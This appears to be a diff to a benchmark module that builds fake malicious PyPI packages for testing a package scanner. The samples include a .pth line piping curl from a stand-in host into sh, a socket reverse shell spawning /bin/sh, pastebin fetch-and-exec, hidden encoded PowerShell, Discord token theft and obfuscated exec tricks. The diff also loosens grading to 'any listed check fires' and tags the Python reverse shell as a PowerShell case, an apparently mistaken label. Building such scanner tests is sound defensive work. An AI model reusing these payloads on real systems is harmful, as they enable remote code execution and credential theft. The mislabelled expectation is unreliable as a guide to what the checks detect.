@@ -3,8 +3,11 @@ and for reuse by tests and the stand-in PyPI.
 
 Every payload decodes to `print(1)` or points at documentation hosts (203.0.113.0/24,
 *.example.invalid); the files are only ever read, never installed or run. Project names are
-made up (none is in ../shared/eval). Each sample names the check ids it expects and the minimum
-severity the file should reach; `expects=()` marks a control that should stay below medium.
+made up (none is in ../shared/eval). Each sample names the check ids that fit its shape, most apt
+first, and the least severity the file should reach: it is caught when any of those ids fires at
+that severity or above (one strong finding often covers a shape two checks could describe: an
+exec of a chr()-join is decode-exec as much as obfuscation). `expects=()` marks a control that
+should stay below medium.
 
     from bench.samples import build_samples, sample
     data = sample("pth-decode-exec").data  # .ref, .metadata, .expects, .severity beside it
@@ -60,7 +63,7 @@ class Sample:
     version: str
     filename: str
     data: bytes
-    expects: tuple[str, ...]  # check ids that should fire; () for a control
+    expects: tuple[str, ...]  # check ids any of which catches it, most apt first; () for a control
     severity: Severity  # the least the file's expected findings should reach
     metadata: ReleaseMetadata  # as the JSON API would serve it
     shape: str  # one line: what the sample imitates
@@ -191,7 +194,7 @@ _add("pth-os-system", "dovecrest", ".pth import line running a shell command",
      _wh("dovecrest", {
          "dovecrest/__init__.py": "",
          "dovecrest.pth": f"import os; os.system('curl -s http://{HOST}/p | sh')\n"}),
-     (PTH_EXEC,), Severity.HIGH)  # fmt: skip
+     (PTH_EXEC, SHELL_DOWNLOAD), Severity.HIGH)  # fmt: skip
 
 # ---------------------------------------------------------------- download, write, run
 
@@ -220,7 +223,7 @@ _add("powershell-encoded", "quarrystone", "PowerShell -EncodedCommand from setup
          "import subprocess, sys\nif sys.platform == 'win32':\n"
          f"    subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', '{_PS}'])\n",
          "quarrystone")}),
-     (POWERSHELL,))  # fmt: skip
+     (POWERSHELL, DECODE_EXEC))  # fmt: skip
 
 _add("fetch-pastebin-exec", "noctilume", "exec(urlopen('https://pastebin.com/raw/...').read())",
      _sd("noctilume", {"setup.py": _setup(
@@ -274,7 +277,7 @@ _add("raw-ip-reverse-shell", "emberquay", "socket to a raw IP with the shell on 
          f"    s = socket.socket(); s.connect(('{HOST}', 4444))\n"
          "    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n"
          "    pty.spawn('/bin/sh')\n\n\nif os.fork() == 0:\n    _connect()\n", "emberquay")}),
-     (SUSPICIOUS_HOST,), Severity.HIGH)  # fmt: skip
+     (SUSPICIOUS_HOST, POWERSHELL), Severity.HIGH)  # fmt: skip
 
 _add("discord-token-grab", "velvetroost", "reads Discord leveldb tokens and posts to a webhook",
      _wh("velvetroost", {"velvetroost/__init__.py":
@@ -293,13 +296,13 @@ _CHRS = ",".join(str(ord(c)) for c in "print(1)")
 _add("chr-join-exec", "wyvernlatch", "exec(''.join(chr(c) for c in [...]))",
      _sd("wyvernlatch", {"setup.py": _setup(
          f"exec(''.join(chr(c) for c in [{_CHRS}]))\n", "wyvernlatch")}),
-     (OBFUSCATION,))  # fmt: skip
+     (OBFUSCATION, DECODE_EXEC))  # fmt: skip
 
 _add("getattr-builtins", "tamsinvale", "getattr(__builtins__, 'ex' + 'ec') on a decoded string",
      _wh("tamsinvale", {"tamsinvale/__init__.py":
          "import base64\n_f = getattr(__builtins__, 'ex' + 'ec', None) or __builtins__['ex' + 'ec']\n"
          f"_f(base64.b64decode('{PRINT_1_B64}'))\n"}),
-     (OBFUSCATION,))  # fmt: skip
+     (OBFUSCATION, DECODE_EXEC))  # fmt: skip
 
 _add("dunder-import-system", "orrisfield", "__import__('o'+'s').system(...) in setup.py",
      _sd("orrisfield", {"setup.py": _setup(
@@ -310,7 +313,7 @@ _add("importlib-builtins-dict", "caskwright", "importlib.import_module('builtins
      _wh("caskwright", {"caskwright/__init__.py":
          "import importlib\n"
          "importlib.import_module('built' + 'ins').__dict__['ev' + 'al']('print(1)')\n"}),
-     (OBFUSCATION,), Severity.MEDIUM)  # fmt: skip
+     (OBFUSCATION, DECODE_EXEC), Severity.MEDIUM)  # fmt: skip
 
 _add("pyarmor-stub", "quenchbar", "PyArmor-like runtime stub with an opaque blob",
      _wh("quenchbar", {
@@ -319,7 +322,7 @@ _add("pyarmor-stub", "quenchbar", "PyArmor-like runtime stub with an opaque blob
              "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00" + "\\x01" * 400 + "')\n",
          "quenchbar/pytransform/__init__.py": "def pyarmor_runtime(): pass\n",
          "quenchbar/pytransform/_pytransform.so": b"\x7fELF\x02\x01\x01" + b"\x00" * 120}),
-     (PACKED,), Severity.MEDIUM)  # fmt: skip
+     (PACKED, NATIVE_IN_PURE), Severity.MEDIUM)  # fmt: skip
 
 _add("bidi-trojan-source", "lindqvist-auth", "bidi override characters inside a string comparison",
      _wh("lindqvist-auth", {"lindqvist_auth/__init__.py":
